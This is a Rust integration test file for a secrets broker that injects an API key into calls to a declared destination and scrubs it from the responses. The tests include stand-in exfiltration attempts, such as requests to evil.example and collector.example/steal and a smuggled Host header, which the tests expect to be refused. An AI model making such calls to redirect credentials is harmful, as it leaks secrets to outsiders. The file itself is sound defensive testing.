//! The `use` broker: the server calls a secret's declared destination with the value
//! injected and hands back the answer scrubbed; the agent never receives the value.
//! Tested against a local HTTP server that records what it received.

use crate::{expect_code, ok, value};
use axum::extract::{Request, State};
use serde_json::json;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use strongroom_client::Client;
use strongroom_proto::{SetUseRequest, UseRequest};
use strongroom_testkit::{Backend, TestApp, TestUser};

const KEY: &str = "payments/api/production/STRIPE_KEY";
const VALUE: &str = "sk_live_b7Qx9";

/// What the destination received: method, path and query, headers, body.
type Received = Arc<Mutex<Vec<(String, String, Vec<(String, String)>, String)>>>;

/// A destination that records each request and echoes its Authorization header back, in
/// its body and in a header, as a careless API might.
async fn destination() -> (String, Received) {
    let received: Received = Arc::default();
    let app = axum::Router::new()
        .fallback(|State(log): State<Received>, request: Request| async move {
            let (parts, body) = request.into_parts();
            let body = axum::body::to_bytes(body, 1 << 20)
                .await
                .unwrap_or_default();
            let headers: Vec<(String, String)> = parts
                .headers
                .iter()
                .map(|(n, v)| (n.to_string(), String::from_utf8_lossy(v.as_bytes()).into()))
                .collect();
            let auth = parts
                .headers
                .get("authorization")
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .to_owned();
            if let Ok(mut log) = log.lock() {
                log.push((
                    parts.method.to_string(),
                    parts.uri.to_string(),
                    headers,
                    String::from_utf8_lossy(&body).into(),
                ));
            }
            (
                [("x-echo", auth.clone())],
                format!("{{\"you_sent\": \"{auth}\", \"ok\": true}}"),
            )
        })
        .with_state(received.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let addr = listener.local_addr().unwrap_or_else(|e| panic!("{e}"));
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (format!("http://{addr}"), received)
}

async fn app_allowing_private(backend: Backend) -> TestApp {
    TestApp::spawn_configured(backend, Default::default(), |config| {
        config.broker_allow_private = true;
    })
    .await
}

/// Alice's organization with the secret, declared for `destination`, and an agent token
/// that may use (not reveal) it.
async fn vault(app: &TestApp, destination: &str) -> (TestUser, TestUser, String, Client, String) {
    let alice = app.signup("alice").await;
    let (org, mut members) = app
        .organization(&alice, "acme", &[("dev", "developer")])
        .await;
    ok(alice.client.create_app("payments").await);
    ok(alice.client.create_project("payments/api").await);
    ok(alice.client.put_secret(KEY, &value(VALUE)).await);
    ok(alice
        .client
        .set_secret_use(
            KEY,
            &SetUseRequest {
                destination: destination.into(),
                header: "Authorization".into(),
                format: "Bearer {value}".into(),
            },
        )
        .await);
    let token = ok(alice
        .client
        .create_token(&crate::token_request(
            "helper",
            "agent",
            &["payments/api"],
            &["use"],
        ))
        .await)
    .secret
    .expose()
    .to_owned();
    let agent = app.client.with_token(token.clone());
    (alice, members.remove(0), org.id, agent, token)
}

fn call(path: &str) -> UseRequest {
    UseRequest {
        secret: Some(KEY.into()),
        host: None,
        method: "POST".into(),
        path: path.into(),
        headers: vec![
            ("x-agent".into(), "helper".into()),
            ("authorization".into(), "Bearer not-the-secret".into()),
            ("host".into(), "evil.example".into()),
            // Either would bring the value back in a form it cannot be scrubbed from.
            ("accept-encoding".into(), "gzip, br".into()),
            ("range".into(), "bytes=0-3".into()),
        ],
        body: Some("amount=5".into()),
        body_base64: None,
    }
}

async fn an_agent_uses_a_secret_and_never_receives_its_value(backend: Backend) {
    let app = app_allowing_private(backend).await;
    let (destination, received) = destination().await;
    let (_, _, vault_id, agent, _) = vault(&app, &destination).await;
    let answer = ok(agent.use_secret(&call("/v1/charges?amount=5")).await);
    assert_eq!(answer.status, 200);
    let sent = received.lock().map(|r| r.clone()).unwrap_or_default();
    assert_eq!(sent.len(), 1);
    let (method, uri, headers, body) = &sent[0];
    assert_eq!(
        (method.as_str(), uri.as_str(), body.as_str()),
        ("POST", "/v1/charges?amount=5", "amount=5")
    );
    let auth: Vec<&str> = headers
        .iter()
        .filter(|(n, _)| n == "authorization")
        .map(|(_, v)| v.as_str())
        .collect();
    assert_eq!(
        auth,
        [format!("Bearer {VALUE}")],
        "the declared header, once"
    );
    assert!(headers.iter().any(|(n, v)| n == "x-agent" && v == "helper"));
    assert!(
        headers
            .iter()
            .all(|(n, v)| n != "host" || v != "evil.example")
    );
    assert!(
        headers
            .iter()
            .any(|(n, v)| n == "accept-encoding" && v == "identity")
    );
    assert!(headers.iter().all(|(n, _)| n != "range"));
    // The destination echoed the value back; the agent gets it scrubbed, everywhere.
    let whole = serde_json::to_string(&answer).unwrap_or_default();
    assert!(!whole.contains(VALUE), "{whole}");
    assert!(
        answer
            .body
            .as_deref()
            .is_some_and(|b| b.contains("[REDACTED]"))
    );
    assert!(
        answer
            .headers
            .iter()
            .any(|(n, v)| n == "x-echo" && v == "[REDACTED]")
    );
    // Audited as a use by the agent, naming the call (without its query).
    let uses = app
        .query_column(&format!(
            "SELECT actor_kind || ' ' || actor_name || ' ' || target || ' ' || detail \
             FROM audit_events WHERE vault_id = '{vault_id}' AND action = 'secret.use'"
        ))
        .await;
    assert_eq!(
        uses,
        [format!("agent helper {KEY} POST {destination}/v1/charges")]
    );
    assert!(!app.database_contains(VALUE).await);
}

async fn calls_to_any_other_host_are_refused_and_audited(backend: Backend) {
    let app = app_allowing_private(backend).await;
    let (destination, received) = destination().await;
    let (_, _, vault_id, agent, _) = vault(&app, &destination).await;
    let mut elsewhere = call("/steal");
    elsewhere.host = Some("evil.example".into());
    let refused = expect_code(agent.use_secret(&elsewhere).await, "permission_denied");
    assert!(refused.to_string().contains("evil.example"), "{refused}");
    assert!(received.lock().map(|r| r.is_empty()).unwrap_or(false));
    let denied = app
        .query_column(&format!(
            "SELECT action || ' ' || target FROM audit_events \
             WHERE vault_id = '{vault_id}' AND outcome = 'denied'"
        ))
        .await;
    assert_eq!(denied, [format!("secret.use {KEY}")]);
}

async fn private_destinations_are_refused_unless_the_operator_allows_them(app: TestApp) {
    let (destination, received) = destination().await;
    let port = destination.rsplit(':').next().unwrap_or("0").to_owned();
    let (alice, _, _, agent, _) = vault(&app, &destination).await;
    let refused = expect_code(agent.use_secret(&call("/")).await, "permission_denied");
    assert!(refused.to_string().contains("http"), "{refused}");
    for host in [
        format!("https://127.0.0.1:{port}"),
        format!("https://localhost:{port}"),
    ] {
        ok(alice
            .client
            .set_secret_use(
                KEY,
                &SetUseRequest {
                    destination: host.clone(),
                    header: "Authorization".into(),
                    format: "Bearer {value}".into(),
                },
            )
            .await);
        let refused = expect_code(agent.use_secret(&call("/")).await, "permission_denied");
        assert!(
            refused.to_string().contains("loopback"),
            "{host}: {refused}"
        );
    }
    assert!(received.lock().map(|r| r.is_empty()).unwrap_or(false));
}

async fn choosing_a_destination_takes_reveal_on_the_secret(app: TestApp) {
    let (alice, dev, _, agent, _) = vault(&app, "api.stripe.com").await;
    ok(alice
        .client
        .create_access_role(
            "writers",
            json!({"scope": {"projects": ["payments/api"]}, "off": ["reveal"]}),
        )
        .await);
    ok(alice
        .client
        .set_member_access_role("dev", Some("writers"))
        .await);
    let redirect = SetUseRequest {
        destination: "collector.example".into(),
        header: "Authorization".into(),
        format: "Bearer {value}".into(),
    };
    let refused = expect_code(
        dev.client.set_secret_use(KEY, &redirect).await,
        "permission_denied",
    );
    assert!(refused.to_string().contains("reveal"), "{refused}");
    assert_eq!(
        ok(alice.client.secret(KEY).await)
            .use_destination
            .as_deref(),
        Some("https://api.stripe.com")
    );
    // Clearing sends the value nowhere, so write alone may do it.
    ok(dev.client.clear_secret_use(KEY).await);
    let unusable = expect_code(agent.use_secret(&call("/")).await, "conflict");
    assert!(unusable.to_string().contains("set-use"), "{unusable}");
    // An agent cannot choose a destination either.
    expect_code(
        agent.set_secret_use(KEY, &redirect).await,
        "permission_denied",
    );
    for bad in ["https://x.example/path", "ftp://x.example"] {
        expect_code(
            alice
                .client
                .set_secret_use(
                    KEY,
                    &SetUseRequest {
                        destination: bad.into(),
                        header: "Authorization".into(),
                        format: "Bearer {value}".into(),
                    },
                )
                .await,
            "invalid_value",
        );
    }
}

async fn the_broker_proxy_relays_an_agents_plain_http_calls(backend: Backend) {
    let app = app_allowing_private(backend).await;
    let (destination, received) = destination().await;
    let (_, _, _, _, token) = vault(&app, &destination).await;
    // As the CLI contract has it (the server picks the secret declaring each call's
    // host), and with the secret named.
    proxy_relays(&app, &destination, &received, &token, &[]).await;
    proxy_relays(&app, &destination, &received, &token, &["--secret", KEY]).await;
}

async fn proxy_relays(
    app: &TestApp,
    destination: &str,
    received: &Received,
    token: &str,
    extra: &[&str],
) {
    let before = received.lock().map(|r| r.len()).unwrap_or(0);
    let port = {
        let probe = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
        probe.local_addr().map(|a| a.port()).unwrap_or(0)
    };
    let config_dir = app.scratch().join("broker-config");
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_strongroom"))
        .args(["broker", "--listen", &format!("127.0.0.1:{port}")])
        .args(extra)
        .env("STRONGROOM_CONFIG_DIR", &config_dir)
        .env("STRONGROOM_SERVER", &app.url)
        .env("STRONGROOM_TOKEN", token)
        .env_remove("STRONGROOM_MACHINE_KEY")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap_or_else(|e| panic!("{e}"));
    let proxy = format!("http://127.0.0.1:{port}");
    let mut up = false;
    for _ in 0..100 {
        if tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .is_ok()
        {
            up = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(up, "the broker did not start");
    let http = reqwest::Client::builder()
        .proxy(reqwest::Proxy::http(&proxy).unwrap_or_else(|e| panic!("{e}")))
        .build()
        .unwrap_or_else(|e| panic!("{e}"));
    let answer = http
        .get(format!("{destination}/v1/balance"))
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(answer.status().as_u16(), 200);
    let body = answer.text().await.unwrap_or_default();
    assert!(
        body.contains("[REDACTED]") && !body.contains(VALUE),
        "{body}"
    );
    let sent = received.lock().map(|r| r.clone()).unwrap_or_default();
    assert_eq!(sent.len(), before + 1);
    assert!(
        sent[before]
            .2
            .iter()
            .any(|(n, v)| n == "authorization" && v == &format!("Bearer {VALUE}"))
    );
    // Any other host is refused by the proxy, and nothing is sent.
    let elsewhere = http
        .get("http://collector.example/steal")
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(elsewhere.status().as_u16(), 403);
    assert_eq!(received.lock().map(|r| r.len()).unwrap_or(0), before + 1);
    let _ = child.kill().await;
    let output = child
        .wait_with_output()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let log = String::from_utf8_lossy(&output.stderr);
    assert!(log.contains("/v1/balance") && !log.contains(VALUE), "{log}");
}

async fn a_machine_attached_with_use_uses_secrets_too(backend: Backend) {
    let app = app_allowing_private(backend).await;
    let (destination, received) = destination().await;
    let (alice, _, vault_id, _, _) = vault(&app, &destination).await;
    let key =
        strongroom_crypto::machine_key::MachineKey::generate().unwrap_or_else(|e| panic!("{e}"));
    ok(alice
        .client
        .register_machine("worker", &key.public().to_openssh(""), None)
        .await);
    let machine = app.client.with_machine_key(key, &vault_id);
    // Attached to read only, it may not use.
    ok(alice
        .client
        .attach_machine("worker", "payments/api", &[], &["read".to_owned()])
        .await);
    expect_code(machine.use_secret(&call("/")).await, "permission_denied");
    ok(alice
        .client
        .attach_machine("worker", "payments/api", &[], &["use".to_owned()])
        .await);
    assert_eq!(ok(machine.use_secret(&call("/")).await).status, 200);
    assert_eq!(received.lock().map(|r| r.len()).unwrap_or(0), 1);
}

crate::each_backend!(
    an_agent_uses_a_secret_and_never_receives_its_value,
    calls_to_any_other_host_are_refused_and_audited,
    the_broker_proxy_relays_an_agents_plain_http_calls,
    a_machine_attached_with_use_uses_secrets_too
);

crate::on_both_backends!(
    private_destinations_are_refused_unless_the_operator_allows_them,
    choosing_a_destination_takes_reveal_on_the_secret,
);
